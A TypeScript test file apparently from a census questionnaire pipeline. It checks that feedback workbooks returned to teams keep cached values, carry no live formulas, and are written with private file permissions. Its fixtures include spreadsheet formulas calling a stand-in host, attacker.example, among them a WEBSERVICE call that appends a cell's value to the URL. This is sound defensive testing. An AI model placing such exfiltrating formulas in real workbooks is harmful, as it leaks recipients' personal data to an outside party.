import { mkdtempSync, readFileSync, statSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ingest } from '../../../pipeline/ingest/job.ts';
import { questionnaireProcessor } from '../../../pipeline/ingest/questionnaire/processor.ts';
import { writeFeedback, type FeedbackOutput } from '../../../pipeline/feedback/index.ts';
import { keepValuesOnly } from '../../../pipeline/feedback/workbook.ts';
import { fillReturn } from '../../../sources/questionnaire/fill-return.ts';
import { loadQuestionList } from '../../../schemas/waves/index.ts';
import { freshDatabase, type TestDb } from '../../support/db.ts';
import { testCtx } from '../../support/ctx.ts';
import { teamAnswers } from '../../support/returns.ts';

/**
 * Feedback workbooks go back to teams: they carry values, never live formulas, and are written
 * private (folder 0700, files 0600) like everything else with personal data (issue 17).
 */
const list = loadQuestionList(2025);

function formulas(wb: ExcelJS.Workbook): string[] {
  const out: string[] = [];
  for (const ws of wb.worksheets)
    ws.eachRow((row) =>
      row.eachCell((c) => {
        const v = c.value as unknown;
        if (v && typeof v === 'object' && ('formula' in v || 'sharedFormula' in v)) out.push(`${ws.name}!${c.address}`);
      }),
    );
  return out;
}

describe('keepValuesOnly', () => {
  it('replaces each formula by its cached result, an error by its error, and one without a result by an empty cell', () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('S');
    ws.getCell('A1').value = { formula: '20+20', result: 40 };
    ws.getCell('A2').value = { formula: 'WEBSERVICE("http://attacker.example/?"&A1)', result: 'ok' };
    ws.getCell('A3').value = { formula: 'A1*2' } as ExcelJS.CellFormulaValue;
    ws.getCell('A4').value = { formula: '1/0', result: { error: '#DIV/0!' } };
    ws.getCell('A5').value = 'plain';
    expect(keepValuesOnly(wb)).toBe(4);
    expect(['A1', 'A2', 'A3', 'A4', 'A5'].map((a) => ws.getCell(a).value)).toEqual([
      40,
      'ok',
      null,
      { error: '#DIV/0!' },
      'plain',
    ]);
    expect(formulas(wb)).toEqual([]);
  });
});

describe('census feedback outputs', () => {
  let t: TestDb;
  let out: string;
  let files: FeedbackOutput[];
  beforeAll(async () => {
    t = await freshDatabase();
    const ws = mkdtempSync(join(tmpdir(), 'census-ws-'));
    const inbox = mkdtempSync(join(tmpdir(), 'inbox-fbf-'));
    const wb = fillReturn(
      list,
      { ...teamAnswers('Formula Team', 'Formula Trust', 'f@formula.example'), families_supported: 'lots' },
      { created: new Date('2025-04-01T00:00:00Z') },
    );
    const sheet = wb.getWorksheet('Questionnaire')!;
    sheet.getCell('H2').value = { formula: 'HYPERLINK("http://attacker.example","open me")', result: 'open me' };
    sheet.getCell('H3').value = { formula: '2+3', result: 5 };
    mkdirSync(inbox, { recursive: true });
    writeFileSync(join(inbox, 'formula.xlsx'), Buffer.from(await wb.xlsx.writeBuffer()));
    await ingest(
      { paths: [inbox], wave: 2025, processor: questionnaireProcessor(list), command: 'test' },
      testCtx(t, { dir: ws }),
    );
    out = join(mkdtempSync(join(tmpdir(), 'feedback-out-')), 'feedback');
    files = await writeFeedback({ wave: 2025, outDir: out }, testCtx(t, { dir: ws }));
  });
  afterAll(async () => {
    await t.drop();
  });

  it("keeps the team's values but none of its formulas", async () => {
    expect(files.map((f) => f.kind)).toEqual(['annotated']);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(readFileSync(join(out, files[0]!.file)) as unknown as ArrayBuffer);
    expect(formulas(wb)).toEqual([]);
    const sheet = wb.getWorksheet('Questionnaire')!;
    expect([sheet.getCell('H2').value, sheet.getCell('H3').value]).toEqual(['open me', 5]);
  });

  it('creates the folder 0700 and each workbook 0600 (umask permitting)', () => {
    const umask = process.umask();
    expect(statSync(out).mode & 0o777).toBe(0o700 & ~umask);
    for (const f of files) expect(statSync(join(out, f.file)).mode & 0o777).toBe(0o600 & ~umask);
  });
});
